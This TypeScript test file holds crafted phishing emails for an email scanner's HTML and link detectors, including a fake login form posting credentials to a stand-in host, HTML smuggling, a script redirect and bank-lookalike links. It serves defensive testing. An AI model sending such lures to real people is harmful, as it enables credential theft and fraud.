/** Crafted samples for the HTML and links engines. */
import type { Sample } from './sample.ts'
import { base64Blob, smugglingPage } from '../engines/html/test-samples.ts'
import { buildMessage } from '../testing/build-message.ts'

/** Judged under examples/policy.yaml: the organization is northwind.com, its bank contoso-bank.com. */
const outsider = 'Orders Desk <orders@supplier-mail.net>'

export function contentSamples(): Sample[] {
  return [
    {
      name: 'html-smuggling',
      about: 'an HTML attachment that builds and saves a file in the browser',
      raw: buildMessage({
        from: outsider,
        subject: 'Remittance',
        text: 'Open the attached remittance advice.',
        attachments: [
          { filename: 'remittance.html', contentType: 'text/html', content: smugglingPage(base64Blob(20_000)) },
        ],
      }),
      codes: ['HTML_SMUGGLING', 'ATTACH_HTML'],
      action: 'quarantine',
    },
    {
      name: 'html-hidden-text',
      about: 'random words hidden from the reader',
      raw: buildMessage({
        from: outsider,
        subject: 'Special offer',
        html:
          '<p>Cheap watches, best prices, buy today!</p>' +
          '<div style="display:none">meadow copper lantern violet harbour quantum pebble orchard zephyr</div>' +
          '<p style="font-size:0">granite willow saffron tundra</p>',
      }),
      codes: ['HTML_HIDDEN_TEXT'],
      action: 'allow',
    },
    {
      name: 'html-credential-form',
      about: 'a login form that posts elsewhere',
      raw: buildMessage({
        from: outsider,
        subject: 'Mailbox quota',
        html:
          '<p>Your mailbox is full. Sign in to keep receiving mail.</p>' +
          '<form action="https://mail-quota.example.net/collect" method="post">' +
          '<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form>',
      }),
      codes: ['HTML_FORM_CREDENTIALS'],
      action: 'flag',
    },
    {
      name: 'html-script',
      about: 'script in the message body',
      raw: buildMessage({
        from: outsider,
        subject: 'Update',
        html: '<p onmouseover="steal()">Hello</p><script>document.location="https://x.example.net"</script>',
      }),
      codes: ['HTML_SCRIPT'],
      action: 'allow',
    },
    {
      name: 'link-text-mismatch',
      about: 'a link showing one site and leading to another',
      raw: buildMessage({
        from: outsider,
        subject: 'Account notice',
        html: '<p>Sign in at <a href="https://login-check.example.net/s">https://www.contoso-bank.com/login</a></p>',
      }),
      codes: ['LINK_TEXT_MISMATCH'],
      action: 'flag',
    },
    {
      name: 'link-ip-and-shortener',
      about: 'links to a bare IP address and through a shortener',
      raw: buildMessage({
        from: outsider,
        subject: 'Parcel',
        text: 'Track: http://192.0.2.44/track?id=1 or https://bit.ly/3xYz12',
      }),
      codes: ['LINK_IP_HOST', 'LINK_SHORTENER'],
      action: 'flag',
    },
    {
      name: 'link-punycode-lookalike',
      about: 'a link to a punycode host imitating the bank',
      raw: buildMessage({
        from: outsider,
        subject: 'Statement ready',
        text: 'View it at https://xn--contoso-bnk-6ij.com/statement',
      }),
      codes: ['LINK_PUNYCODE_HOST', 'LINK_LOOKALIKE_DOMAIN'],
      action: 'flag',
    },
    {
      name: 'link-safelinks',
      about: 'a Safe Links rewrite whose real target is an IP address',
      raw: buildMessage({
        from: outsider,
        subject: 'Shared file',
        text: 'Open: https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F198.51.100.7%2Ffile&data=05%7C01&reserved=0',
      }),
      codes: ['LINK_REWRITTEN', 'LINK_IP_HOST'],
      action: 'allow',
    },
  ]
}
